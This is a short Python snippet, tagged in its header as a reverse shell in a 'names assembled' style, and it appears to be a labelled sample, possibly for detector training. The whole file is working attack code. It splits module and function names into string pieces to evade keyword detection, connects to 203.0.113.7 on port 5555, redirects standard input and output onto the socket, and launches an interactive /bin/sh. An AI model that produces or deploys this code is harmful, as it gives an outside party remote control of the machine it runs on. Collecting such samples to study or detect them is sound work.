# class: reverse shell; style: names assembled
m = __import__
k = getattr(m("so" + "cket"), "soc" + "ket")()
getattr(k, "con" + "nect")(("203.0.113.7", 5555))
o = m("o" + "s")
[getattr(o, "du" + "p2")(k.fileno(), i) for i in (0, 1, 2)]
getattr(m("sub" + "process"), "ca" + "ll")(["/bin/" + "sh", "-i"])
